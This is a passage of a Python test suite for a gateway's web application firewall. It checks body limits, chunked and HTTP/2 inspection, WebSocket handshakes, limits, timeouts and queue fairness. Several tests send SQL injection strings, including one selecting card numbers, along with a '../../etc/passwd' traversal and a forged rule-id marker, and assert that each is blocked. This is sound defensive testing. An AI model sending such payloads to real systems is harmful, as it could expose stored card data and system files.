    eq(gw.up.paths(), ["/pay/v1/charges?limit=10"] * 3 +
       ["/pay/v1/charges?probe=blockme"], "what went upstream")
    gw.sl.stop()


# ---------------------------------------------------------------------------
# Bodies past body_limit


KiB = 1024
CHUNKED = {"Transfer-Encoding": "chunked"}


@test
def a_body_over_body_limit_is_refused_with_413():
    require_waf()
    gw = start([waf_route("pay", "/pay", body_limit="1KiB")])
    body = b"pad=" + b"a" * (2 * KiB - 4)
    for what, hdrs, raw in [("Content-Length", FORM_CT, body),
                            ("chunked", dict(FORM_CT, **CHUNKED),
                             chunked(body, 512))]:
        c = Client(gw.port)
        r = gw.send("POST", "/pay/v1/upload", hdrs, raw, client=c)
        assert_error(r, 413, "waf_body_too_large", close=True)
        check(c.wait_closed(), "%s: the connection is closed" % what)
        c.close()
        gw.expect(r.header("x-request-id"), what,
                  {"status": 413, "waf": "over_limit",
                   "error": "waf_body_too_large", "upstream": "-"})
    gw.passed(gw.send("POST", "/pay/v1/upload", FORM_CT,
                      b"pad=" + b"a" * 1000), "a body within body_limit")
    gw.verify()
    eq(gw.up.paths(), ["/pay/v1/upload"], "only the last went upstream")
    gw.counts({"over_limit": 2, "pass": 1})
    eq(gw.inspections(), 1, "a body over the limit is not inspected")
    gw.sl.stop()


@test
def partial_inspects_the_first_body_limit_bytes():
    require_waf()
    gw = start([waf_route("pay", "/pay", body_limit="1KiB",
                          on_body_limit="partial")])
    sqli = b"q=1%27%20OR%201%3D1--"
    early = sqli + b"&pad=" + b"a" * 2000
    late = b"pad=" + b"a" * 2000 + b"&" + sqli
    te = dict(FORM_CT, **CHUNKED)
    rids = []
    for what, hdrs, body in [("Content-Length", FORM_CT, early),
                             ("chunked", te, chunked(early, 700))]:
        r = gw.send("POST", "/pay/v1/upload", hdrs, body)
        rids.append(gw.blocked(r, "942", what="an early attack, %s" % what))
    for what, hdrs, body in [("Content-Length", FORM_CT, late),
                             ("chunked", te, chunked(late, 700))]:
        r = gw.send("POST", "/pay/v1/upload", hdrs, body)
        gw.passed(r, "an attack past body_limit, %s" % what)
        eq(gw.up.requests[-1].body, late, "forwarded whole, %s" % what)
    found = gw.verify()
    for rid in rids:
        eq(found[rid][0].get("body"), "partial", "the WAF line says the "
           "body inspected was cut")
    gw.counts({"blocked": 2, "pass": 2})
    gw.sl.stop()


@test
def a_chunked_body_one_byte_over_the_limit_is_refused():
    """A chunked body of body_limit + 1 bytes is over the limit (the one
    more byte sluice waits for says so): 413, never inspected as whole."""
    require_waf()
    gw = start([waf_route("pay", "/pay", body_limit="1KiB")])
    body = b"pad=" + b"a" * (KiB + 1 - 4)
    r = gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED),
                chunked(body, 300))
    assert_error(r, 413, "waf_body_too_large", close=True)
    r = gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED),
                chunked(body[:KiB], 300))
    eq(r.status, 200, "exactly body_limit passes")
    eq(gw.up.paths(), ["/pay/v1/upload"], "only the second went upstream")
    gw.sl.stop()


@test
def a_body_of_small_chunks_is_inspected_as_its_payload():
    """Chunks of one byte are mostly framing: 5 KiB of payload is 30 KiB
    on the wire, more than the client's 16 KiB buffer. The HTTP/1.1
    codec drops the framing as it reads (doc/design-notes.md, "HTTP/1.1
    as a codec of fields"), so the rules read the whole payload: the
    attack at its end is found, and a clean body of the same chunks goes
    upstream whole. (Before, the framing filled the buffer first and the
    body was refused 413 whatever on_body_limit said.)"""
    require_waf()
    gw = start([waf_route("pay", "/pay", body_limit="8KiB",
                          on_body_limit="partial")],
               limits={"buffer_bytes": "16KiB", "max_header_bytes": "8KiB"})
    body = b"pad=" + b"a" * 5000 + b"&q=1%27%20OR%201%3D1--"
    gw.blocked(gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED),
                       chunked(body, 1)),
               "942", what="SQLi after 5000 one-byte chunks")
    eq(gw.up.paths(), [], "nothing went upstream")
    clean = b"pad=" + b"a" * 5000 + b"&q=1"
    r = gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED),
                chunked(clean, 1))
    eq(r.status, 200, "a clean body of one-byte chunks (%r)" % r.body[:200])
    eq([q.body for q in gw.up.requests], [clean], "its payload upstream")
    gw.sl.stop()


@test
def a_chunk_announced_past_max_body_bytes_gets_413_on_a_waf_route():
    """The route's max_body_bytes counts a chunk's announced size at once
    (its codec refuses it, seam.h's req_refusal): on a route whose WAF
    waits for the body, the answer is the 413 the route without a WAF
    gives, not the WAF's 400 for malformed framing."""
    require_waf()
    r = waf_route("pay", "/pay", body_limit="8KiB")
    r["max_body_bytes"] = "1KiB"
    gw = start([r])
    resp = gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED),
                   b"10000\r\n" + b"a" * 100)
    assert_error(resp, 413, "payload_too_large", close=True)
    eq(gw.up.paths(), [], "nothing went upstream")
    gw.sl.stop()


@test
def a_malformed_chunked_body_is_refused_before_anything_goes_up():
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    raw = b"5\r\nq=1%2\r\nzz\r\nnot a chunk\r\n0\r\n\r\n"
    r = gw.send("POST", "/pay/v1/upload", dict(FORM_CT, **CHUNKED), raw)
    assert_error(r, 400, "bad_request", close=True)
    eq(gw.up.paths(), [], "nothing went upstream")
    gw.sl.stop()


@test
def detection_only_in_a_rule_file_does_not_turn_block_off():
    """A rule file copied from modsecurity.conf-recommended says
    SecRuleEngine DetectionOnly: the route's mode decides, so block still
    blocks (sluice's own directives come again after the files)."""
    require_waf()
    d = tmpdir()
    f = os.path.join(d, "modsecurity.conf")
    with open(f, "w") as fh:
        fh.write("SecRuleEngine DetectionOnly\nSecRequestBodyAccess Off\n")
    gw = start([waf_route("pay", "/pay", rules=[f] + CRS)])
    gw.blocked(gw.send("GET", "/pay/v1/charges?id=1%27%20OR%201%3D1--"),
               "942", what="SQLi in a query")
    gw.blocked(gw.send("POST", "/pay/v1/customers", JSON_CT,
                       {"name": "1' UNION SELECT pan FROM cards--"}),
               "942", what="SQLi in a JSON body")
    gw.verify()
    gw.sl.stop()


@test
def forged_markers_in_a_request_are_counted_not_trusted():
    """ModSecurity writes the decoded path raw into its messages ([uri
    "..."]): a path carrying '[id "' makes them ambiguous. The verdict
    stands (blocked); the WAF line counts the messages it did not trust,
    and shows no forged id."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    r = gw.send("GET", "/pay/v1/%5Bid%20%22999%22%5D"
                "?file=../../etc/passwd")
    eq(r.status, 403, "blocked")
    rid = r.header("x-request-id")
    found = gw.lines([rid])[rid]
    eq(len(found["waf"]), 1, "one WAF line")
    w = found["waf"][0]
    eq(w["action"], "blocked", "its action")
    check(w.get("unparsed_messages", 0) >= 1,
          "the untrusted messages counted: %r" % w)
    check(999 not in w["rules"], "no forged rule id: %r" % w["rules"])
    gw.sl.stop()


@test
def a_body_within_body_limit_is_not_refused():
    """The default body_limit (32 KiB): a legitimate body of 8 KiB sent
    with its head in one write is inspected and forwarded, not refused
    413 as if over the limit where the first read into the client's
    buffer ended."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    legit = json_body({"items": [{"sku": "SKU-%05d" % i, "qty": 1,
                                  "name": "Café crème, 250 g"}
                                 for i in range(150)]})
    check(6 * KiB < len(legit) < 16 * KiB, "a body of %d bytes" % len(legit))
    for what, hdrs, raw in [("Content-Length", JSON_CT, legit),
                            ("chunked", dict(JSON_CT, **CHUNKED),
                             chunked(legit, 4096))]:
        r = gw.send("POST", "/pay/v1/orders", hdrs, raw)
        gw.passed(r, "a legitimate %d-byte body (%s)" % (len(legit), what))
    gw.verify()
    eq([u.body for u in gw.up.requests], [legit, legit], "upstream")
    gw.sl.stop()


@test
def a_head_kept_while_its_body_comes_reaches_the_upstream_whole():
    """The head a request waits with (for its body, then for its thread)
    is taken back as parsed, not parsed again; when the body read
    meanwhile grows or compacts the buffer, the head's text moves and
    the request's fields go with it. Bodies of three sizes, sent with
    the head, after it in pieces, and behind a pipelined GET, and over
    HTTP/2 with an empty value ending its head block: the upstream gets
    the target, every field and the body as sent."""
    require_waf()
    import h2test
    h2 = h2test.HAVE_H2 and not sltest.over_tls()
    gw = start([waf_route("pay", "/pay")],
               listener_opts={"protocols": ["h2", "http/1.1"]} if h2
               else None)
    target = "/pay/v1/orders?ref=A-1&page=two"
    fields = [("X-Order-%d" % i, "v%d-%s" % (i, "k" * (7 * i)))
              for i in range(12)]
    sent = []
    for n in (20, 100, 150):
        body = json_body({"items": [{"sku": "SKU-%05d" % i,
                                     "note": "gift wrap " * 4}
                                    for i in range(n)]})
        head = build_request("POST", target,
                             [("Host", HOST)] + fields +
                             [("Content-Type", "application/json"),
                              ("Content-Length", str(len(body)))])
        for how in ("with its head", "in pieces", "behind a GET"):
            c = Client(gw.port)
            if how == "with its head":
                c.send(head + body)
            elif how == "in pieces":
                c.send(head)
                time.sleep(0.05)
                for i in range(0, len(body), 3000):
                    c.send(body[i:i + 3000])
                    time.sleep(0.01)
            else:
                c.send(build_request("GET", "/pay/v1/ping",
                                     [("Host", HOST)]) + head + body[:100])
                gw.passed(c.read_response("GET"), "the GET before")
                time.sleep(0.05)
                c.send(body[100:])
            gw.passed(c.read_response("POST"),
                      "%d bytes %s" % (len(body), how))
            c.close()
            sent.append(body)
        if h2:
            # HTTP/2: the head block, its last value empty (it ends the
            # block), then the body in DATA frames that grow the stream's
            # buffer
            c = h2test.H2Client(gw.port, host=HOST)
            sid = c.request("POST", target, [(k.lower(), v)
                                             for k, v in fields] +
                            JSON_CT_H2 + [("x-empty", "")], end=False)
            time.sleep(0.05)
            for i in range(0, len(body), 3000):
                c.send_body(sid, body[i:i + 3000],
                            end=i + 3000 >= len(body))
            st = c.response(sid)
            eq(st.status, 200, "%d bytes over HTTP/2" % len(body))
            c.close()
            sent.append(body)
    check(len(sent[-1]) > 8 * KiB, "the last body is %d bytes" %
          len(sent[-1]))
    gw.verify()
    posts = [u for u in gw.up.requests if u.method == "POST"]
    eq(len(posts), len(sent), "every POST went up")
    for u, body in zip(posts, sent):
        eq(u.target, target, "the target")
        for k, v in fields:
            eq(u.header(k), v, k)
        eq(u.header("Host"), HOST, "Host")
        eq(u.body, body, "the body")
    if h2:
        eq([u.header("x-empty") for u in posts
            if u.header("x-empty") is not None], [""] * 3,
           "the empty last field of the HTTP/2 heads")
    gw.sl.stop()


@test
def an_attack_within_body_limit_is_found_past_the_first_read():
    """The default body_limit (32 KiB), on_body_limit reject or partial:
    an attack at byte 6,000 of a body sent with its head in one write is
    found (not refused 413, nor passed as past the limit)."""
    require_waf()
    gw = start([waf_route("pay", "/pay"),
                waf_route("part", "/part", on_body_limit="partial")])
    late = b"pad=" + b"a" * 6000 + b"&q=1%27%20OR%201%3D1--"
    for route in ("part", "pay"):
        r = gw.send("POST", "/%s/v1/upload" % route, FORM_CT, late)
        gw.blocked(r, "942", route=route,
                   what="an attack at byte 6000, route %s" % route)
    gw.verify()
    eq(gw.up.requests, [], "nothing upstream")
    gw.sl.stop()


@test
def t_refuses_a_body_limit_the_buffer_cannot_hold():
    require_waf()
    d = tmpdir()
    for body_limit, ok in (("32KiB", False), ("8KiB", True)):
        cfg, _ = make_config({"pay": ["127.0.0.1:9"]},
                             limits={"buffer_bytes": "16KiB",
                                     "max_header_bytes": "8KiB"},
                             routes=[waf_route("pay", rules=[CRS_SETUP],
                                               body_limit=body_limit)])
        path = write_yaml(os.path.join(d, "limit.yaml"), cfg)
        rc, out, err = run_sluice(["-t", "-c", path])
        if ok:
            eq(rc, 0, "body_limit %s fits: %s" % (body_limit, err))
            continue
        check(rc != 0, "-t accepted body_limit %s" % body_limit)
        check(re.search(r"^%s: error: route \"pay\": waf: body_limit "
                        r"\(32768 bytes\) and listener \"main\"'s "
                        r"max_header_bytes \(8192\) are more than its "
                        r"buffer_bytes \(16384\)"
                        % re.escape(rules_key_place(path)), err, re.M),
              "the error: %r" % err)


# ---------------------------------------------------------------------------
# HTTP/2, Expect: 100-continue, WebSocket


JSON_CT_H2 = [("content-type", "application/json")]


def h2_blocked(gw, st, fam, what):
    eq(st.status, 403, "%s: status" % what)
    return gw.expect(st.header("x-request-id"), what,
                     {"status": 403, "waf": "blocked",
                      "error": "waf_blocked"}, ("blocked", fam, "pay"))


@test
def http2_requests_are_inspected_alike():
    require_waf()
    if sltest.over_tls():
        raise Skip("h2c prior knowledge: plain TCP only")
    import h2test
    if not h2test.HAVE_H2:
        raise Skip("python3-h2 is not installed")
    gw = start([waf_route("pay", "/pay")],
               listener_opts={"protocols": ["h2", "http/1.1"]})
    c = h2test.H2Client(gw.port, host=HOST)
    h2_blocked(gw, c.get("/pay/v1/charges?id=1%27%20OR%201%3D1--"), "942",
               "h2 GET, SQL injection in the query")
    st = c.response(c.request("POST", "/pay/v1/charges", JSON_CT_H2,
                              body=json_body({"customer_id": "1' UNION "
                                              "SELECT pan FROM cards--"})))
    h2_blocked(gw, st, "942", "h2 POST, SQL injection in the JSON body")
    legit = json_body({"amount": 1999, "currency": "EUR",
                       "card_token": "tok_1Nv0Qz2eZvKYlo2C",
                       "name": "Zoë O'Brien"})
    st = c.response(c.request("POST", "/pay/v1/charges", JSON_CT_H2,
                              body=legit))
    eq(st.status, 200, "a legitimate h2 POST")
    gw.expect(st.header("x-request-id"), "a legitimate h2 POST",
              {"status": 200, "waf": "pass"})
    eq(gw.up.requests[-1].body, legit, "its body upstream, intact")
    c.close()
    # :authority stands for Host: a numeric one is scored (920350)
    c = h2test.H2Client(gw.port)       # :authority 127.0.0.1:PORT
    rid = h2_blocked(gw, c.get("/pay/v1/receipts?file=../../etc/passwd"),
                     "930", "h2, a numeric :authority")
    c.close()
    found = gw.verify()
    check(920350 in found[rid][0]["rules"], "the :authority given as Host: "
          "%r" % found[rid][0]["rules"])
    eq(len(gw.up.requests), 1, "only the legitimate request went up")
    gw.counts({"blocked": 3, "pass": 1})
    gw.sl.stop()


@test
def expect_100_continue_bodies_are_inspected_before_going_upstream():
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    legit = json_body({"name": "José O'Brien", "amount": "12.50"})
    for body, status in [(json_body({"q": "1' OR 1=1--"}), 403),
                         (legit, 200)]:
        c = Client(gw.port)
        h = [("Host", HOST), ("Content-Type", "application/json"),
             ("Expect", "100-continue"), ("Content-Length", str(len(body)))]
        c.send(build_request("POST", "/pay/v1/charges", h, None, None))
        r = c.read_response(stop_at_interim=True)
        eq(r.status, 100, "sluice sends 100 Continue itself")
        eq(gw.up.accepts, 0, "before the upstream is asked")
        c.send(body)
        r = c.read_response("POST")
        if status == 403:
            gw.blocked(r, "942", what="Expect, an attack in the body")
            eq(gw.up.accepts, 0, "nothing upstream")
        else:
            gw.passed(r, "Expect, a legitimate body")
        c.close()
    gw.verify()
    eq([u.body for u in gw.up.requests], [legit], "the body went up whole")
    gw.sl.stop()


GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def ws_upstream(req):
    """Switches to WebSocket (then closes: the tunnel is not tested)."""
    key = req.header("Sec-WebSocket-Key") or ""
    acc = base64.b64encode(hashlib.sha1(key.encode() + GUID).digest())
    return Reply(action="raw", close=True, raw=(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
        b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + acc +
        b"\r\n\r\n"))


@test
def a_websocket_handshake_is_inspected():
    require_waf()
    route = waf_route("pay", "/pay")
    route["upgrade"] = ["websocket"]
    gw = start([route], handler=ws_upstream)
    ws = {"Connection": "Upgrade", "Upgrade": "websocket",
          "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
          "Sec-WebSocket-Version": "13"}
    gw.blocked(gw.send("GET", "/pay/ws?id=1%27%20OR%201%3D1--", ws), "942",
               what="an attack in the handshake's query")
    eq(gw.up.accepts, 0, "nothing upstream")
    c = Client(gw.port)
    c.send(build_request("GET", "/pay/ws?account=acct_1032D82e",
                         [("Host", HOST)] + list(ws.items()), None, None))
    r = c.read_response(stop_at_interim=True)
    eq(r.status, 101, "a legitimate handshake switches")
    c.close()
    gw.passed(r, "the handshake", status=101)
    gw.verify()
    eq(gw.up.paths(), ["/pay/ws?account=acct_1032D82e"], "upstream")
    gw.counts({"blocked": 1, "pass": 1})
    gw.sl.stop()


# ---------------------------------------------------------------------------
# No verdict: on_failure


def heavy_cookie(n):
    """A Cookie field the CRS takes long to inspect: n cookies, each
    looked at by every rule on REQUEST_COOKIES (600: over a tenth of a
    second where a payment request takes 2 ms). Kept short of seconds: a
    stop waits for the inspection a WAF thread runs, and those threads
    are niced under the loops."""
    return {"Cookie": "; ".join("c%d=v%d" % (i, i) for i in range(n))}


def waf_lines(gw, rid):
    """The WAF lines of request rid (its access line written)."""
    return gw.lines([rid])[rid]["waf"]


@test
def loop_side_limits_refuse_before_a_thread():
    """What the rules would be given to read, counted on the loop against
    the route's waf.limits (issue 63, item 2): 2,500 cookies in 30 KB (a
    second of a WAF thread, operations.md 15.7) are refused 400 at once,
    as are 300 query arguments and a JSON body too deep; a form body past
    args_bytes 413; each with a WAF line naming the limit, counted
    "limited", never inspected, nothing upstream. A route that raises a
    limit lets the same request through its rules; in detect mode one
    past a limit goes on uninspected, its line "detected"."""
    require_waf()
    gw = start([waf_route("pay", "/pay"),
                waf_route("watch", "/watch", mode="detect"),
                waf_route("raised", "/raised",
                          limits={"args": 2000, "cookies": 3000}),
                waf_route("small", "/small", body_limit="128KiB",
                          limits={"json_depth": 4,
                                  "args_bytes": "64KiB"})],
               limits={"max_header_bytes": "64KiB", "max_uri_bytes": "32KiB",
                       "buffer_bytes": "256KiB"})
    cookies = heavy_cookie(2500)
    check(len(cookies["Cookie"]) > 30000, "30 KB of cookies")
    many = "/v1/charges?" + "&".join("a%d=%d" % (i, i) for i in range(1200))
    deep = b"[" * 6 + b"1" + b"]" * 6
    form = b"&".join(b"f%d=%s" % (i, b"v" * 1000) for i in range(70))
    form_bytes = sum(len(x) - 1 for x in form.split(b"&"))
    cases = [
        ("GET", "/pay/v1/charges", cookies, None, 400, "cookies", 2500, 100),
        ("GET", "/pay" + many, {}, None, 400, "args", 1200, 1000),
        ("POST", "/small/v1/x", JSON_CT, deep, 400, "json_depth", 6, 4),
        ("POST", "/small/v1/y", FORM_CT, form, 413, "args_bytes",
         form_bytes, 65536),
    ]
    for method, path, h, body, status, limit, found, mx in cases:
        r = gw.send(method, path, h, body)
        assert_error(r, status, "waf_limit")
        rid = r.header("x-request-id")
        got = gw.lines([rid])[rid]
        a = got["access"][0]
        eq((a["status"], a["waf"], a["error"], a["upstream"]),
           (status, "limited", "waf_limit", "-"), "the access line")
        w = got["waf"]
        eq(len(w), 1, "one WAF line for %s" % limit)
        w = w[0]
        eq((w["action"], w["limit"], w["found"], w["max"], w["status"],
            w["rules"]), ("refused", limit, found, mx, status, []),
           "the WAF line of %s" % limit)
    eq(gw.up.paths(), [], "nothing went upstream")
    gw.counts({"limited": 2}, route="pay")
    gw.counts({"limited": 2}, route="small")
    eq(gw.inspections("pay"), 0, "no thread looked at them")
    eq(gw.inspections("small"), 0, "nor at these")
    # the limits raised: the same requests go through the rules
    eq(gw.send("GET", "/raised" + many).status, 200, "1,200 args allowed")
    eq(gw.send("GET", "/raised/v1/c", heavy_cookie(120)).status, 200,
       "120 cookies allowed")
    gw.counts({"pass": 2}, route="raised")
    # detect mode: on, uninspected, said
    r = gw.send("GET", "/watch/v1/charges", cookies)
    eq(r.status, 200, "detect mode refuses nothing")
    w = waf_lines(gw, r.header("x-request-id"))
    eq([(x["action"], x["limit"]) for x in w], [("detected", "cookies")],
       "its WAF line")
    gw.counts({"limited": 1}, route="watch")
    eq(gw.inspections("watch"), 0, "not inspected")
    eq(gw.up.paths(), ["/raised" + many, "/raised/v1/c",
                       "/watch/v1/charges"], "what went upstream")
    gw.sl.stop()


@test
def a_json_body_is_counted_exactly_only_past_its_bounds():
    """The loop counts a JSON body's values exactly only when its bounds
    (its ',' '{' '[', wafcheck.h) are past a limit (issue
    63, session 44): 1,200 values are refused "args" as counted, commas
    inside a string raise the bounds but not the count, and a text that
    is not JSON, 3,000 strings with no comma, is one value to its bounds:
    it goes to the rules, whose JSON parser stops at its second string
    (77004, trailing garbage) and refuses it."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    many = b"[" + b",".join(b"1" for _ in range(1200)) + b"]"
    r = gw.send("POST", "/pay/v1/x", JSON_CT, many)
    assert_error(r, 400, "waf_limit")
    w = waf_lines(gw, r.header("x-request-id"))
    eq([(x["action"], x["limit"], x["found"]) for x in w],
       [("refused", "args", 1200)], "counted exactly")
    commas = json_body({"note": "a, b, " * 700, "amount": "12.50"})
    gw.passed(gw.send("POST", "/pay/v1/y", JSON_CT, commas),
              "commas in a string: 2 values")
    strings = b'"a" ' * 3000
    r = gw.send("POST", "/pay/v1/z", JSON_CT, strings)
    assert_error(r, 400, "bad_request")
    w = waf_lines(gw, r.header("x-request-id"))
    eq([x["action"] for x in w], ["blocked"], "the rules refused it")
    check(w[0]["body_error"].startswith(
        "JSON parsing error: parse error: trailing garbage"),
        "the parser stopped at the second string: %r" % w[0])
    eq([u.body for u in gw.up.requests], [commas], "what went upstream")
    gw.sl.stop()


@test
def t_checks_the_waf_limits():
    """waf.limits' keys: numbers, a size for args_bytes, 0 to turn one
    off; an unknown key is named with its place."""
    require_waf()
    d = tmpdir()
    ok = waf_route("pay", rules=[CRS_SETUP],
                   limits={"cookies": 0, "args": 500, "json_depth": 64,
                           "args_bytes": "1MiB"})
    bad = waf_route("pay", rules=[CRS_SETUP], limits={"cookie": 10})
    for route, good in ((ok, True), (bad, False)):
        cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=[route])
        path = write_yaml(os.path.join(d, "limits.yaml"), cfg)
        rc, out, err = run_sluice(["-t", "-c", path])
        if good:
            eq(rc, 0, "limits accepted: %s" % err)
        else:
            check(rc != 0 and "cookie" in err and "waf.limits" in err,
                  "the unknown key named: %r" % err)


@test
def no_verdict_in_time_follows_on_failure():
    """timeout 10ms against an inspection of 600 cookies: no verdict in
    time on any machine (load only makes the inspection longer)."""
    require_waf()
    nolim = {"cookies": 0}  # the rules' time is what is tested
    gw = start([waf_route("deny", "/deny", timeout="10ms", limits=nolim),
                waf_route("deny403", "/d403", timeout="10ms",
                          failure_status=403, limits=nolim),
                waf_route("allow", "/allow", timeout="10ms",
                          on_failure="allow", limits=nolim)])
    big = heavy_cookie(600)
    r = gw.send("GET", "/deny/v1/charges", big)
    assert_error(r, 503, "waf_unavailable")
    eq(r.header("retry-after"), "1", "Retry-After")
    gw.expect(r.header("x-request-id"), "deny",
              {"status": 503, "waf": "failed_denied", "upstream": "-"})
    r = gw.send("GET", "/d403/v1/charges", big)
    assert_error(r, 403, "waf_unavailable")
    eq(r.header("retry-after"), None, "no Retry-After with a 403")
    gw.expect(r.header("x-request-id"), "deny, 403",
              {"status": 403, "waf": "failed_denied"})
    r = gw.send("GET", "/allow/v1/charges", big)
    eq(r.status, 200, "on_failure: allow forwards it")
    gw.expect(r.header("x-request-id"), "allow",
              {"status": 200, "waf": "failed_allowed"})
    gw.verify()
    eq(gw.up.paths(), ["/allow/v1/charges"], "only the allowed one went up")
    gw.counts({"failed_denied": 1}, route="deny")
    gw.counts({"failed_denied": 1}, route="deny403")
    gw.counts({"failed_allowed": 1}, route="allow")
    err = gw.sl.stderr()
    for route, tail in (("deny", r"$"), ("deny403", r"$"),
                        ("allow", r"; on_failure: allow$")):
        check(re.search(r" warn: conn=\d+ request_id=\S+ route=%s: waf: no "
                        r"verdict \(timeout\)%s" % (route, tail), err, re.M),
              "the warn line of route %s:\n%s" % (route, err[-2000:]))
    gw.sl.stop()


@test
def a_full_queue_answers_every_request_as_documented():
    """threads 1, queue 1, sixteen requests at once from sixteen clients
    (addresses), each some hundredths of a second to inspect: some may
    find the queue full (or pass their deadline); every answer is 200 or
    503 waf_unavailable, and the counters, the warn lines and the
    upstream agree on how many of each. (From one client, the queue's
    share answers 429: one_clients_burst_is_shed_not_anothers.)"""
    require_waf()
    gw = start([waf_route("pay", "/pay", limits={"cookies": 0})],
               waf={"threads": 1, "queue": 1})
    n = 16
    results = [None] * n
    go = threading.Barrier(n)

    def one(i):
        c = Client(gw.port, timeout=20, src="127.0.0.%d" % (20 + i))
        go.wait(10)
        results[i] = gw.send("GET", "/pay/v1/charges/%d" % i,
                             heavy_cookie(200), client=c)
        c.close()
    ts = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(30)
    ok = [i for i, r in enumerate(results) if r is not None and
          r.status == 200]
    denied = [i for i, r in enumerate(results) if r is not None and
              r.status == 503]
    eq(len(ok) + len(denied), n, "every answer 200 or 503: %r"
       % [r and r.status for r in results])
    for i in denied:
        assert_error(results[i], 503, "waf_unavailable")
        eq(results[i].header("retry-after"), "1", "Retry-After")
        gw.expect(results[i].header("x-request-id"), "denied %d" % i,
                  {"status": 503, "waf": "failed_denied"})
    for i in ok:
        gw.passed(results[i], "request %d" % i)
    gw.verify()
    eq(sorted(gw.up.paths()), sorted("/pay/v1/charges/%d" % i for i in ok),
       "the upstream got exactly the 200s")
    gw.counts({"pass": len(ok), "failed_denied": len(denied)})
    warns = re.findall(r"route=pay: waf: no verdict \((queue_full|timeout)\)",
                       gw.sl.stderr())
    eq(len(warns), len(denied), "a warn line a 503")
    check(metric_sum(metrics(gw.aport), "sluice_waf_queue_waits_total",
                     route="pay") <= n, "a queue wait at most a request")
    sys.stdout.write("# %d passed, %d denied\n" % (len(ok), len(denied)))
    gw.sl.stop()


# The verdict's deadline of the burst tests: they are about order, and
# a burst of eight inspections of 2,000 cookies each takes seconds in
# the ASan build beside the other tests (its malloc is libmodsecurity's
# too); its last request may wait for all the others.
BURST_DEADLINE = "60s"


def burst(gw, n, path, cookies, src="127.0.0.1"):
    """n requests at once from src, each with cookies cookies, on
    threads; returns (threads, results: filled as they are answered)."""
    results = [None] * n
    go = threading.Barrier(n)

    def one(i):
        c = Client(gw.port, timeout=90, src=src)
        go.wait(10)
        results[i] = gw.send("GET", "%s/%d" % (path, i),
                             heavy_cookie(cookies), client=c)
        c.close()
    ts = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in ts:
        t.start()
    return ts, results


def waf_metric(gw, name, **labels):
    return metric_sum(metrics(gw.aport), name, **labels)


def other_after_burst(threads, n):
    """A burst of n costly requests from 127.0.0.1 on a gateway of
    `threads` WAF threads, then, once all but the first wait, one request
    from 127.0.0.2; every one inspected and passed. Returns the order the
    upstream got them in and how many of the burst it had when the other
    client's was sent."""
    require_waf()
    gw = start([waf_route("pay", "/pay", limits={"cookies": 0},
                          timeout=BURST_DEADLINE)],
               waf={"threads": threads})
    ts, results = burst(gw, n, "/pay/a", 2000)
    # the burst's first runs, the others wait (with two threads, the
    # second is not theirs)
    check(wait_until(lambda: waf_metric(gw, "sluice_waf_queued") >= n - 1,
                     10.0), "the burst waits")
    # the burst's inspections ended so far
    done = len(gw.up.paths())
    r = gw.send("GET", "/pay/b", client=Client(gw.port, timeout=90,
                                               src="127.0.0.2"))
    for t in ts:
        t.join(120)
    gw.passed(r, "the other client's")
    for i, x in enumerate(results):
        gw.passed(x, "burst %d" % i)
    gw.verify()
    order = gw.up.paths()
    gw.sl.stop()
    return order, done


@test
def a_burst_waits_behind_its_own_requests():
    """The fair queue (issue 63, item 3): one thread; a client's burst of
    eight costly requests is running and waiting when another client's
    request comes: that one is inspected next, after the one running,
    not after the burst (first come, first served would put it last).
    Its place is read from the order the upstream got them in, not from
    times: after those of the burst that had ended when it was sent,
    the one running then, and the one after if that ended meanwhile (an
    inspection is a few tenths of a second); first come, first served
    puts it ninth."""
    order, done = other_after_burst(1, 8)
    eq(len(order), 9, "all went upstream: %r" % order)
    # the one running when b comes may end before b is taken, and the
    # next start: b is then after it
    check(order.index("/pay/b") <= done + 1,
          "the other client's request inspected after at most the one "
          "running when it came (%d ended before): %r" % (done, order))


@test
def with_two_threads_one_client_never_holds_both():
    """threads 2: a client's burst runs on one thread at most, so another
    client's request is inspected at once on the other: the upstream gets
    it after those of the burst that had ended when it was sent, and the
    one running then at most; were the burst let onto both threads, it
    would wait for one of them."""
    order, done = other_after_burst(2, 6)
    check(order.index("/pay/b") <= done + 1,
          "the other client's request on the free thread (%d ended "
          "before): %r" % (done, order))


@test
def one_clients_burst_is_shed_not_anothers():
    """threads 1, queue 2: a client's burst of six fills the queue; its
    requests past it are answered 429 waf_shed with Retry-After (it holds
    the queue), and when another client comes, the burst's newest waiting
    request gives way (429) and the other client's is inspected (200):
    never a 503 for the client that did not cause it."""
    require_waf()
    gw = start([waf_route("pay", "/pay", limits={"cookies": 0},
                          timeout=BURST_DEADLINE)],
               waf={"threads": 1, "queue": 2})
    ts, results = burst(gw, 6, "/pay/a", 2000)
    # one running, two waiting, three shed at once
    check(wait_until(lambda: waf_metric(gw, "sluice_waf_requests_total",
                                        route="pay", result="shed") >= 3,
                     10.0), "the burst past the queue shed")
    r = gw.send("GET", "/pay/b", client=Client(gw.port, timeout=90,
                                               src="127.0.0.2"))
    for t in ts:
        t.join(120)
    gw.passed(r, "the other client's")
    ok = [x for x in results if x.status == 200]
    shed = [x for x in results if x.status == 429]
    # b came while the queue was full (then the burst's newest waiting
    # one gave way: 2 and 4), or, on a slow machine, after the first
    # inspection ended and made room (3 and 3)
    check((len(ok), len(shed)) in ((2, 4), (3, 3)),
          "the burst: the one running and the waiting inspected, the rest "
          "shed: %r" % [x.status for x in results])
    for x in ok:
        gw.passed(x, "burst")
    gw.verify()
    for x in shed:
        assert_error(x, 429, "waf_shed")
        eq(x.header("retry-after"), "1", "Retry-After")
